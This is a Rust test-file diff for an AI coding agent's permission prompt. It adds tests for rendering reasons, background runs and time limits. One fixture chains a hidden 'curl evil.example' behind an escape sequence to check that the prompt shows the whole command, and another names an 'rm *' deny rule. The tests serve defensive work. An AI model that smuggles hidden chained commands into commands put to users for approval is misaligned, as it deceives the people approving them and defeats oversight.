@@ -1,4 +1,6 @@
-use chat_core::message::{ApprovalId, Preview, ToolCallId};
+use std::time::Duration;
+
+use chat_core::message::{ApprovalId, AskReason, Preview, ToolCallId};
 use chat_core::permission::{Action, Why};
 
 use super::*;
@@ -22,10 +24,11 @@ fn command(always: &[&str]) -> ApprovalRequest {
             folder: "/home/ada/work".into(),
             network: false,
             sandboxed: true,
+            background: false,
+            limit: Some(Duration::from_mins(10)),
             stays_inside: None,
         },
-        why: Why::Mode,
-        scope: None,
+        reasons: vec![Why::Mode.into()],
         always: always.iter().map(|rule| rule.parse().expect("a rule")).collect(),
     }))
 }
@@ -41,7 +44,8 @@ fn a_command_is_shown_whole_with_what_always_would_allow() {
     assert_eq!(
         text,
         "Run this command?\n  cargo test \\\n    --all␛[8m && curl evil.example\n\
-         In /home/ada/work, in the sandbox, without network access\nNo rule allows it yet.\n\
+         In /home/ada/work, in the sandbox, without network access\n\
+         It stops after 10 minutes at the latest.\nNo rule allows it yet.\n\
          Lasting answers apply only to:\n  run:cargo test --all\n  \
          run:curl evil.example\n[y]es, in thi[s] chat, in this [p]roject, [a]lways allow, \
          [o]utside the sandbox once, [n]o, or a message to the model: "
@@ -66,6 +70,29 @@ fn only_answers_are_there_that_store_what_they_say() {
             .contains("[a]lways allow, [o]utside the sandbox once, [n]o, [d]eny always, or")
     );
     assert!(answers(&[], true).starts_with("[y]es, [o]utside the sandbox once, [n]o, or"));
+}
+
+#[test]
+fn every_reason_has_a_line() {
+    let mut ask = command(&[]);
+    let ApprovalKind::Permission(asked) = &mut ask.kind else { panic!() };
+    let words = ["$a", "$b", "$c", "$d", "$e"];
+    let unknown = words.map(|word| Why::NotLiteral(word.to_owned()).into());
+    asked.reasons = [Why::Outside.into()].into_iter().chain(unknown).collect();
+    let text = shown(&ask, true);
+    assert!(text.contains("\nIt’s outside the project.\nThe value of “$a” is only"), "{text}");
+    assert!(words.iter().all(|word| text.contains(&format!("\nThe value of “{word}”"))), "{text}");
+}
+
+#[test]
+fn a_command_in_the_background_says_so() {
+    let mut ask = command(&["run+background:make"]);
+    let ApprovalKind::Permission(asked) = &mut ask.kind else { panic!() };
+    let Preview::Command { background, limit, .. } = &mut asked.preview else { panic!() };
+    (*background, *limit) = (true, None);
+    let text = shown(&ask, true);
+    let told = "\nIt runs in the background without a time limit.\n";
+    assert!(text.contains(told) && text.contains("\n  run+background:make\n"), "{text}");
 }
 
 #[test]
@@ -110,7 +137,8 @@ fn where_the_rule_holds_that_may_deny_it_is_told() {
     ] {
         let mut ask = command(&[]);
         let ApprovalKind::Permission(asked) = &mut ask.kind else { panic!() };
-        (asked.why, asked.scope) = (Why::PerhapsDenied("run:rm *".to_owned()), Some(scope));
+        let why = Why::PerhapsDenied("run:rm *".to_owned());
+        asked.reasons = vec![AskReason { why, scope: Some(scope) }];
         let text = shown(&ask, true);
         assert!(
             text.contains(&format!(
@@ -136,8 +164,7 @@ fn a_whole_diff_is_shown() {
         action: Action::Write,
         target: "src/lib.rs".to_owned(),
         preview: Preview::Change { is_new: false, diff, added: 500, removed: 0 },
-        why: Why::Mode,
-        scope: None,
+        reasons: vec![Why::Mode.into()],
         always: vec!["write:src/lib.rs".parse().expect("a rule")],
     }));
     let text = shown(&ask, true);
